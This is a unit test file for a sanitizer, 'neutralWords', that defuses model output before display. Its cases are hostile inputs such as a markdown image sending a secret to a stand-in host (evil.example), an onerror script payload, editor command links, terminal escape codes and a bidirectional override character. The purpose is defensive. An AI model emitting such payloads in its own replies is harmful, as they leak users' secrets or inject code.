import assert from 'node:assert/strict';
import { neutralWords } from '../../../../../src/runtime/models/trust/neutralWords.ts';

describe('Words of a model as they may be shown', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['![pixel](https://evil.example/p?k=secret)', 'pixel'],
    ['see [the details](https://evil.example/?d=1 "title") here', 'see the details here'],
    ['see [the details][1]\n[1]: https://evil.example/x', 'see [the details][1]\n'],
    ['see [the details](//evil.example/x) and ![x][1]', 'see the details and x'],
    ['posts to https://user:pass@api.evil.example:8080/a/b?c=d#e.', 'posts to (an address at api[.]evil[.]example)'],
    ['www.evil.example/x', '(an address at www[.]evil[.]example)'],
    ['<img src=x onerror=alert(1)> and <!-- hidden -->', '‹img src=x onerror=alert(1)> and ‹!-- hidden -->'],
    ['[run](command:workbench.action.x)', 'run'],
    ['command:workbench.x', 'command: workbench.x'],
    ['\u001b[31mred\u0007', ' [31mred '],
    ['a\u202eb', 'a⟦U+202E⟧b'],
    ['the key __MASKED1_SECRET_2__ of __MASKED_PERSONAL_1__', 'the key ••• of •••'],
  ];
  for (const [said, shown] of cases) it(`make ${JSON.stringify(said)} harmless`, () => assert.equal(neutralWords(said), shown));

  it('leave alone what people write about code', () => {
    for (const words of ['`Map<string, number>` grows for ever', 'a[i](x) is called for i < n', 'matrix[i][j] holds it', 'x => y, "http" and //comment', 'user@host: a.b.c', 'array[0] (the first)']) assert.equal(neutralWords(words), words);
  });
});
